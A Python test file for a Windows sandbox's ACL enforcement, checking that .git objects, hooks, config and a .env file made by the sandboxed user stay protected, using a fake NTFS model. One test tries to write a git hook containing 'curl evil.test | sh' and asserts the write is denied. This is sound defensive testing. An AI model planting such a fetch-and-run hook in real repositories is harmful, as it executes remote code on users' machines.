"""r2-fixes F1-F3: objects the sandbox user made in an earlier run, kept denied.

F3 (as r3-new revised it): a denied object the sandbox user owns stays its own (git trusts a repository by
its owner) and gets an OWNER RIGHTS ACE, which replaces the owner's implicit WRITE_DAC; where the real user
cannot change its ACL the run is refused in one line.
F1: every deny names WRITE_DAC and WRITE_OWNER, so an allow ACE the sandbox user kept (one it added while
it owned the object) neither rewrites the DACL nor takes the object again. F2: below a protected
directory an OWNER RIGHTS ACE takes away the owner's implicit WRITE_DAC. All judged by the NTFS model
(tests/support/ntfsmodel.py) as the sandbox user; fake evidence only.
"""

from __future__ import annotations

import pytest

from fsguard import policy as fspolicy
from fsguard.windows import acl, aclapply, sddl, winpath
from sgbase.windows.api import WinApiError
from tests.support import ntfsmodel
from tests.support.winfake import APPDATA, BASE_DACL, HOME, REAL_SID, WS, FakeWinApi, workspace

SID = "S-1-5-21-1111111111-2222222222-3333333333-1001"
GIT = WS + r"\.git"
#: made by `git clone` + `pre-commit install` inside an earlier run, with an ACE it added as their owner
MADE = (GIT + r"\objects", GIT + r"\objects\info", GIT + r"\hooks", GIT + r"\config", WS + r"\.env")
HOOK = GIT + r"\hooks\pre-commit"
KEPT = BASE_DACL + f"(A;;FA;;;{SID})"  # Windows keeps explicit ACEs first; the model reads them all
TAKEN = f"D:AI(A;;FA;;;{SID})(A;OICIID;FA;;;SY)(A;OICIID;FA;;;BA)(A;OICIID;FA;;;{REAL_SID})"


def _machine() -> FakeWinApi:
    m = workspace()
    for folder in (GIT + r"\objects", GIT + r"\objects\info"):
        m.dirs.add(folder)
    m.files.update({GIT + r"\config": b"[core]\n", WS + r"\.env": b"TOKEN=secret\n", HOOK: b"#!/bin/sh\npre-commit\n"})
    for path in (*MADE, HOOK):
        m.dacls[path] = TAKEN
        m.owners[path] = SID
    return FakeWinApi(m)


def _apply(api: FakeWinApi) -> aclapply.Applied:
    fs = fspolicy.FsPolicy(read_deny=(".env",))
    existing = frozenset(winpath.key(p) for p in acl.candidates(fs, cwd=WS, home=HOME) if api.exists(p))
    plan = acl.plan_acls(fs, sid=SID, cwd=WS, home=HOME, existing=existing)
    applied = aclapply.Applied(APPDATA + r"\sandgate-r2fix.jsonl")
    aclapply.apply(api, plan, SID, applied)
    return applied


def test_denied_objects_the_sandbox_user_made_stay_its_own_and_lose_the_owners_implicit_rights() -> None:
    """r3-new: never taken back (git trusts a repository by its owner: a `.git` the sandbox user made must stay
    untrusted for the real user's git); an OWNER RIGHTS ACE on each such object, first, journalled, and out at
    teardown."""
    api = _machine()
    applied = _apply(api)
    for path in (GIT + r"\objects", GIT + r"\objects\info", GIT + r"\hooks", GIT + r"\config", WS + r"\.env"):
        assert api.m.owners[path] == SID, path
        rights = [sddl.parse_ace(a) for a in sddl.split_dacl(api.m.dacls[path])[1]]
        assert any(a.sid == acl.OWNER_RIGHTS and "IO" not in a.flags for a in rights), path
    first = next(c for c in api.calls if c[0] == "set_dacl")
    assert winpath.key(str(first[1][0])) in {winpath.key(p) for p in MADE}  # the owned objects before anything else
    aclapply.finish(api, applied, lambda e: pytest.fail(e))
    assert applied.finished and api.m.owners[GIT + r"\config"] == SID
    assert sddl.same_dacl(api.m.dacls[GIT + r"\objects"], TAKEN)  # the DACLs are restored as they were


def test_an_ace_the_sandbox_user_kept_neither_rewrites_a_guard_nor_retakes_the_object() -> None:
    """F1: fails on GUARD_CHAIN/GUARD_PARENT/DENY_READ without WRITE_DAC|WRITE_OWNER."""
    api = _machine()
    _apply(api)
    box = ntfsmodel.Ntfs(api.m, SID)
    for path in (GIT + r"\objects", GIT + r"\objects\info", GIT + r"\hooks", GIT + r"\config", WS + r"\.env"):
        with pytest.raises(ntfsmodel.Denied):
            box.set_owner(path)  # its own FA ACE's WRITE_OWNER: denied first
        with pytest.raises(ntfsmodel.Denied):
            box.set_dacl(path, f"D:P(A;OICI;FA;;;{SID})")
    with pytest.raises(ntfsmodel.Denied):
        box.rename(GIT + r"\objects\info", GIT + r"\objects\info.old")  # then a new alternates
    assert not box.allowed(WS + r"\.env", 0x1)  # the secret stays unreadable
    box.mkdir(GIT + r"\objects\ab")  # git's own work in the same run goes on
    box.write(GIT + r"\objects\ab\cdef", b"blob")
    assert api.m.files[GIT + r"\objects\ab\cdef"] == b"blob"


def test_a_hook_the_sandbox_user_owns_below_the_protected_folder_cannot_be_rewritten() -> None:
    """F2: fails without the OWNER RIGHTS ACE (the owner's implicit WRITE_DAC drops the inherited deny)."""
    api = _machine()
    api.m.dacls[HOOK] = "D:AI"  # inherits everything from .git\hooks, as a file pre-commit wrote would
    _apply(api)
    box = ntfsmodel.Ntfs(api.m, SID)
    with pytest.raises(ntfsmodel.Denied):
        box.set_dacl(HOOK, f"D:P(A;;FA;;;{SID})")
    with pytest.raises(ntfsmodel.Denied):
        box.write(HOOK, b"#!/bin/sh\ncurl evil.test | sh\n")
    assert api.m.files[HOOK] == b"#!/bin/sh\npre-commit\n"
    # control: the same object outside any protected folder keeps its owner's rights
    api.m.files[WS + r"\notes.txt"], api.m.dacls[WS + r"\notes.txt"] = b"x", "D:AI"
    api.m.owners[WS + r"\notes.txt"] = SID
    box.set_dacl(WS + r"\notes.txt", f"D:P(A;;FA;;;{SID})")


def test_the_owner_rights_ace_goes_at_teardown_also_when_the_real_user_changed_the_folder() -> None:
    api = _machine()
    applied = _apply(api)
    hooks = api.m.dacls[GIT + r"\hooks"]
    assert any(sddl.parse_ace(a).sid == acl.OWNER_RIGHTS for a in sddl.split_dacl(hooks)[1])
    api.m.dacls[GIT + r"\hooks"] = sddl.with_ace(hooks, f"(A;;FR;;;{REAL_SID})")  # the user's own change
    aclapply.finish(api, applied, lambda e: pytest.fail(e))
    left = [sddl.parse_ace(a) for a in sddl.split_dacl(api.m.dacls[GIT + r"\hooks"])[1]]
    assert all(a.sid not in (SID, acl.OWNER_RIGHTS) for a in left) and any(a.sid == REAL_SID for a in left)


def test_an_owned_object_the_real_user_cannot_change_refuses_the_run_in_one_line_with_nothing_changed() -> None:
    api = _machine()
    api.m.dacls[GIT + r"\config"] = f"D:P(A;;FA;;;{SID})(A;;0x1301bf;;;{REAL_SID})"  # Modify: no WRITE_DAC
    before = dict(api.m.dacls)
    applied = aclapply.Applied(APPDATA + r"\sandgate-r2fix.jsonl")
    fs = fspolicy.FsPolicy(read_deny=(".env",))
    existing = frozenset(winpath.key(p) for p in acl.candidates(fs, cwd=WS, home=HOME) if api.exists(p))
    plan = acl.plan_acls(fs, sid=SID, cwd=WS, home=HOME, existing=existing)
    with pytest.raises(WinApiError) as e:
        aclapply.apply(api, plan, SID, applied)
    text = str(e.value)
    assert "belongs to the sandbox user" in text and "takeown" in text and "\n" not in text
    aclapply.finish(api, applied, lambda err: pytest.fail(err))  # the run's teardown: only owned objects were touched
    assert api.m.dacls == before and applied.finished
    assert "make_dir" not in api.names() and "write_file" not in api.names()
